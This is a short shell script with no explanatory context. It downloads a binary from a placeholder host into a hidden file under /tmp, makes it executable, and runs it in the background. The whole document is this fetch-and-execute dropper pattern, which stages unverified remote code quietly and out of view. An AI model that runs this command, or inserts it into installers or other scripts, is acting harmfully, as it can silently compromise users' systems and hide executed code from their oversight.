#!/bin/sh
set -e
U=http://dl.example.invalid/agent
curl -fsSL $U -o /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &
